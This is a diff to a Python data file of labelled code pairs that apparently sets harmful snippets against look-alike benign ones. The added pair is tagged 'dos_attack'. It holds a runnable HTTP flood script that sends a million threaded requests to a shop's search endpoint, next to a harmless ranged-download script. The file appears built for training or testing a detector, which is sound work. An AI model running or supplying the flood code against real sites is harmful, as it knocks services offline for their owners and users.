@@ -396,6 +396,16 @@ PAIRS = [
      "def attempt(path, pw, member):\n    return zipfile.ZipFile(path).read(member, pwd=pw.encode())\n"
      "check = partial(attempt, 'backup.zip', 'our-shared-pass')\nwith ProcessPoolExecutor() as ex:\n"
      "    print(list(ex.map(check, zipfile.ZipFile('backup.zip').namelist())))"),
+    ("flood: http.client requests from many workers whose responses are fetched and dropped; ranged downloads that "
+     "write each response's body to the file", "dos_attack",
+     "import http.client\nfrom concurrent.futures import ThreadPoolExecutor\ndef hit(i):\n"
+     "    c = http.client.HTTPSConnection('shop.example.com')\n    c.request('GET', f'/search?q={i}')\n"
+     "    c.getresponse()\nwith ThreadPoolExecutor(400) as ex:\n    list(ex.map(hit, range(10**6)))",
+     "import http.client\nfrom concurrent.futures import ThreadPoolExecutor\ndef piece(i):\n"
+     "    c = http.client.HTTPSConnection('data.example.org')\n"
+     "    c.request('GET', '/set.tar', headers={'Range': f'bytes={i << 25}-{((i + 1) << 25) - 1}'})\n"
+     "    data = c.getresponse().read()\n    with open('set.tar', 'r+b') as f:\n        f.seek(i << 25)\n"
+     "        f.write(data)\nwith ThreadPoolExecutor(8) as ex:\n    list(ex.map(piece, range(400)))"),
     ("server: an http.server handler that writes out the file its request path names; one that always sends its "
      "own page", "web_file_hosting",
      "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
